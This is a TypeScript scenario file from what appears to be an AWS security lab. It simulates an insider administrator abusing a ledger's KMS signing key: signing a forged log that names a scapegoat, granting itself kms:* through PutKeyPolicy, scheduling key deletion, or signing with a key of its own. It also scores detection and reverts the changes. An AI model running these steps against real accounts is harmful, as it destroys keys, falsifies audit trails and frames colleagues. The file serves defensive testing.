// Lab advanced-ledger, attack 6: replace the signing key. ops-admin tries the ledger's KMS key directly —
// Sign a rewritten log, PutKeyPolicy to let themselves sign, ScheduleKeyDeletion so the key (and every
// checkpoint's proof) goes away — then signs the rewritten log (their read and change of customer records
// naming a colleague) with whatever worked: the ledger key if the key policy let them, else a key of their
// own, under the log's name. Blocked when the key policy refused all three calls on the ledger key (the
// key policy is what AWS checks; AdministratorAccess does not reach a key whose policy does not delegate
// to IAM). Detected when the audit reports the new checkpoint: signed by an unknown key, a bad signature,
// or — signed with the genuine key — a fork from what the witness cosigned.
import {
  KMSClient, CancelKeyDeletionCommand, CreateKeyCommand, EnableKeyCommand, GetKeyPolicyCommand, PutKeyPolicyCommand,
  ScheduleKeyDeletionCommand, DescribeKeyCommand,
} from '@aws-sdk/client-kms';
import type { AttackStep, Scenario } from '../src/engine/types.ts';
import { kmsSigner } from '../src/controls/ledger/signers.ts';
import { attempt } from './lib/attack.ts';
import { forgedEntries } from './advanced-ledger-fork.ts';
import {
  attackerClient, buildLog, judge, notRun, objectKey, prepareAttack, publish, revertCommon, save, scapegoat,
  type Prepared,
} from './advanced-ledger-shared.ts';

interface State extends Prepared {
  tried?: { sign: boolean; policy: boolean; deletion: boolean };
  keyArn?: string;
  policy?: string;
  ownKey?: string;
  signedWith?: 'ledger key' | 'own key';
}

export const ledgerReplaceKeyScenario: Scenario = {
  id: 'ledger-replace-key',
  title: 'An administrator abuses or replaces the ledger\'s signing key',
  description: 'ops-admin tries Sign, PutKeyPolicy and ScheduleKeyDeletion on the ledger KMS key, then signs a rewritten log with the ledger key if allowed, or with a key of their own.',
  techniques: ['T1098', 'T1485', 'T1565.001'],
  detections: ['ledger audit: unknown-key', 'ledger audit: bad-signature', 'ledger audit: fork'],
  points: { blocked: 4, detected: 3 },
  tasks: { detected: 'signing', blocked: 'signing' },
  prepare: (session) => prepareAttack(session, 'replace-key'),
  async inject(session, state) {
    const st = state as State;
    if (!st.logged) return [];
    const t = st.target;
    if (!t.keyId || !t.logKeyName) {
      st.why = 'no signing key is pinned (signing task)';
      return [];
    }
    const kms = attackerClient(session, t, KMSClient);
    const keyId = t.keyId;
    const who = await scapegoat(session, t);
    const entries = forgedEntries(st, who);
    await save(session, st, t.ledger.bucket, objectKey(t.ledger.prefix, 'checkpoint'));
    const steps: AttackStep[] = [];
    st.keyArn = await session.client(KMSClient).send(new DescribeKeyCommand({ KeyId: keyId })).then((r) => r.KeyMetadata?.Arn).catch(() => undefined) ?? keyId;
    // 1. Sign with the ledger key as ops-admin.
    let built: Awaited<ReturnType<typeof buildLog>> | undefined;
    const signWithLedgerKey = async () => {
      built = await buildLog(t.origin, entries, [await kmsSigner(kms, keyId, t.logKeyName!)]);
    };
    const sign = await attempt(session, `kms:Sign with the ledger key as ops-admin (a rewritten log naming ${who})`, signWithLedgerKey);
    steps.push(sign);
    // 2. A key policy that lets ops-admin sign.
    const original = await kms.send(new GetKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default' })).then((r) => r.Policy).catch(() => undefined)
      ?? await session.client(KMSClient).send(new GetKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default' })).then((r) => r.Policy).catch(() => undefined);
    if (original) st.policy = original;
    const base = original ? JSON.parse(original) as { Version?: string; Statement: unknown[] } : { Version: '2012-10-17', Statement: [] };
    const widened = { Version: base.Version ?? '2012-10-17', Statement: [...(Array.isArray(base.Statement) ? base.Statement : [base.Statement]), { Sid: 'ops', Effect: 'Allow', Principal: { AWS: t.env.opsAdmin.arn }, Action: 'kms:*', Resource: '*' }] };
    const put = await attempt(session, 'kms:PutKeyPolicy on the ledger key: ops-admin may do anything with it', () => kms.send(new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: JSON.stringify(widened) })));
    steps.push(put);
    if (!sign.allowed && put.allowed) steps.push(await attempt(session, 'kms:Sign with the ledger key as ops-admin, under the new policy', signWithLedgerKey));
    // 3. Make the key go away.
    steps.push(await attempt(session, 'kms:ScheduleKeyDeletion of the ledger key (7 days)', () => kms.send(new ScheduleKeyDeletionCommand({ KeyId: keyId, PendingWindowInDays: 7 }))));
    st.tried = { sign: sign.allowed, policy: put.allowed, deletion: steps.at(-1)!.allowed };
    if (built) st.signedWith = 'ledger key';
    else {
      // 4. A key of their own, under the log's name.
      let own: string | undefined;
      steps.push(await attempt(session, 'kms:CreateKey ECC_NIST_P256 SIGN_VERIFY (ops-admin\'s own signing key)', async () => {
        own = (await kms.send(new CreateKeyCommand({ KeySpec: 'ECC_NIST_P256', KeyUsage: 'SIGN_VERIFY', Description: 'ledger' }))).KeyMetadata!.KeyId!;
      }));
      if (own) {
        st.ownKey = own;
        steps.push(await attempt(session, `kms:Sign with ops-admin's own key: the rewritten log under the name ${t.logKeyName}`, async () => {
          built = await buildLog(t.origin, entries, [await kmsSigner(kms, own!, t.logKeyName!)]);
        }));
        if (built) st.signedWith = 'own key';
      }
    }
    if (built) steps.push(...await publish(session, st, built.files, `the rewritten log signed with the ${st.signedWith}`));
    return steps;
  },
  async observe(session, steps, state) {
    const st = state as State;
    if (!st.tried) return notRun(st, steps);
    const blocked = !st.tried.sign && !st.tried.policy && !st.tried.deletion;
    const got = [st.tried.sign && 'Sign', st.tried.policy && 'PutKeyPolicy', st.tried.deletion && 'ScheduleKeyDeletion'].filter(Boolean).join(', ');
    const blockText = blocked
      ? 'blocked: the key policy refused ops-admin Sign, PutKeyPolicy and ScheduleKeyDeletion on the ledger key'
      : `not blocked: the key policy let ops-admin ${got} on the ledger key — allow Sign to the ledger role only and refuse PutKeyPolicy and ScheduleKeyDeletion to everyone (no statement delegating the key to the account's IAM policies)`;
    if (!st.signedWith) return { detected: false, blocked, steps, evidence: [], feedback: `the attacker could not sign a rewritten log; ${blockText}` };
    return judge(session, st, steps, {
      kinds: ['unknown-key', 'bad-signature', 'fork'],
      what: `the rewritten log signed with the ${st.signedWith}`,
      needs: st.signedWith === 'own key'
        ? 'the audit must verify checkpoints with the pinned log key only (audit task)'
        : 'signed with the genuine key, the rewrite is valid by itself: only a witness (witness task) or anchors (anchor task) show the log forked',
    }, { blocked, text: blockText });
  },
  async revert(session, state) {
    const st = state as State;
    await revertCommon(session, st);
    if (!st.tried) return;
    const keyId = st.target.keyId!;
    // Whoever the key policy lets: the account root, else ops-admin (whom a permissive policy allows).
    const clients = [session.client(KMSClient), attackerClient(session, st.target, KMSClient)];
    const either = async (call: (kms: KMSClient) => Promise<unknown>) => {
      for (const kms of clients) if (await call(kms).then(() => true, () => false)) return;
    };
    if (st.tried.deletion) {
      await either((kms) => kms.send(new CancelKeyDeletionCommand({ KeyId: keyId })));
      await either((kms) => kms.send(new EnableKeyCommand({ KeyId: keyId })));
    }
    if (st.tried.policy && st.policy) await either((kms) => kms.send(new PutKeyPolicyCommand({ KeyId: keyId, PolicyName: 'default', Policy: st.policy!, BypassPolicyLockoutSafetyCheck: true })));
    if (st.ownKey) await attackerClient(session, st.target, KMSClient).send(new ScheduleKeyDeletionCommand({ KeyId: st.ownKey, PendingWindowInDays: 7 })).catch(() => undefined);
  },
};
